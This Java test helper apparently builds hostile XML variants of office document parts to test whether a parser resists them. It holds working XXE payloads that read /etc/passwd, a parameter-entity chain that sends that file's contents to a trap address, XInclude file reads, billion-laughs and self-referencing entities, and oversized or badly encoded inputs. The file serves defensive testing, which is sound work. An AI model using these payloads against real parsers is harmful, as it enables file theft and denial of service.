package city.planofrecord.chassis.testing.hostile;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Supplier;

/** Ways to make a part of an office document do harm to whoever reads its XML. */
final class HostileXml {

    private static final int MIB = 1024 * 1024;

    private HostileXml() {}

    /**
     * @param part a harmless part, without a declaration, of which one text is {@code HERE}
     * @return each variant's bytes by what it tries
     */
    static Map<String, Supplier<byte[]>> of(String part, Trap trap) {
        var all = new LinkedHashMap<String, Supplier<byte[]>>();
        var root = part.replaceAll("^<([A-Za-z:]+).*$", "$1").replaceAll("(?s)[\\s>].*", "");
        doctype(all, "a file as an entity", root, "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;", part);
        doctype(
                all,
                "an address as an entity",
                root,
                "<!ENTITY x SYSTEM \"" + trap.address("entity") + "\">",
                "&x;",
                part);
        doctype(
                all,
                "a parameter entity",
                root,
                "<!ENTITY % x SYSTEM \"" + trap.address("parameter.dtd") + "\"> %x;",
                "",
                part);
        doctype(
                all,
                "a parameter entity that sends a file away",
                root,
                "<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % g \"<!ENTITY h SYSTEM '" + trap.address("?")
                        + "%f;'>\"> %g;",
                "&h;",
                part);
        all.put(
                "an external definition",
                () -> utf8("<?xml version=\"1.0\"?><!DOCTYPE " + root + " SYSTEM \"" + trap.address("a.dtd") + "\">"
                        + part.replace("HERE", "x")));
        all.put(
                "a public definition",
                () -> utf8("<!DOCTYPE " + root + " PUBLIC \"-//X//X\" \"" + trap.address("b.dtd") + "\">"
                        + part.replace("HERE", "x")));
        doctype(all, "a billion laughs", root, laughs(), "&l9;", part);
        doctype(
                all,
                "one long entity many times",
                root,
                "<!ENTITY x \"" + "a".repeat(100_000) + "\">",
                "&x;".repeat(20_000),
                part);
        doctype(all, "an entity that holds itself", root, "<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">", "&x;", part);
        all.put(
                "an inclusion",
                () -> utf8(part.replace(
                        "HERE",
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>"
                                + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\""
                                + trap.address("inclusion") + "\"/>")));
        all.put(
                "a style sheet and a schema elsewhere",
                () -> utf8("<?xml-stylesheet href=\"" + trap.address("style.xsl") + "\"?>"
                        + part.replaceFirst(
                                "^<([A-Za-z:]+)",
                                "<$1 xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x "
                                        + trap.address("schema.xsd") + "\"")));
        all.put("elements 10,000 deep", () -> utf8(part.replace("HERE", "<a>".repeat(10_000) + "</a>".repeat(10_000))));
        all.put("elements that never end", () -> utf8(part.replace("HERE", "<a>".repeat(200_000))));
        all.put("200,000 attributes", () -> utf8(part.replace("HERE", "<a " + attributes(200_000) + "/>")));
        all.put("an attribute of 5 MB", () -> utf8(part.replace("HERE", "<a b=\"" + "c".repeat(5 * MIB) + "\"/>")));
        all.put("a name of 5 MB", () -> utf8(part.replace("HERE", "<" + "a".repeat(5 * MIB) + "/>")));
        all.put("a text of 8 MB", () -> utf8(part.replace("HERE", "word ".repeat(8 * MIB / 5))));
        all.put("a comment of 8 MB", () -> utf8(part.replace("HERE", "<!--" + "- ".repeat(4 * MIB) + "-->")));
        all.put("8 MB of blanks before it begins", () -> utf8(" ".repeat(8 * MIB) + part));
        all.put("namespaces upon namespaces", () -> utf8(part.replace("HERE", namespaces(3_000))));
        all.put("UTF-16 as declared", () -> declared(part, "UTF-16", StandardCharsets.UTF_16));
        all.put("UTF-16 not as declared", () -> declared(part, "UTF-8", StandardCharsets.UTF_16LE));
        all.put("UTF-8 declared as UTF-16", () -> declared(part, "UTF-16", StandardCharsets.UTF_8));
        all.put("an encoding that is none", () -> declared(part, "../../etc", StandardCharsets.UTF_8));
        all.put("zeros", () -> utf8(part.replace("HERE", "a\0b&#0;")));
        all.put("half a surrogate pair", () -> utf8(part.replace("HERE", "&#xD800;")));
        all.put("letters that turn and hide", () -> utf8(part.replace("HERE", "\u202Eabc\u200B\uFEFF")));
        return all;
    }

    private static void doctype(
            Map<String, Supplier<byte[]>> all, String name, String root, String entities, String used, String part) {
        all.put(
                name,
                () -> utf8("<?xml version=\"1.0\"?><!DOCTYPE " + root + " [" + entities + "]>"
                        + part.replace("HERE", used)));
    }

    private static String laughs() {
        var laughs = new StringBuilder("<!ENTITY l0 \"ha\">");
        for (var i = 1; i < 10; i++) {
            laughs.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return laughs.toString();
    }

    private static String attributes(int count) {
        var attributes = new StringBuilder();
        for (var i = 0; i < count; i++) {
            attributes.append(" a").append(i).append("=\"\"");
        }
        return attributes.toString();
    }

    private static String namespaces(int count) {
        var elements = new StringBuilder();
        for (var i = 0; i < count; i++) {
            elements.append("<n")
                    .append(i)
                    .append(":a xmlns:n")
                    .append(i)
                    .append("=\"urn:")
                    .append(i)
                    .append("\"/>");
        }
        return elements.toString();
    }

    private static byte[] declared(String part, String encoding, Charset charset) {
        return ("<?xml version=\"1.0\" encoding=\"" + encoding + "\"?>" + part.replace("HERE", "é")).getBytes(charset);
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
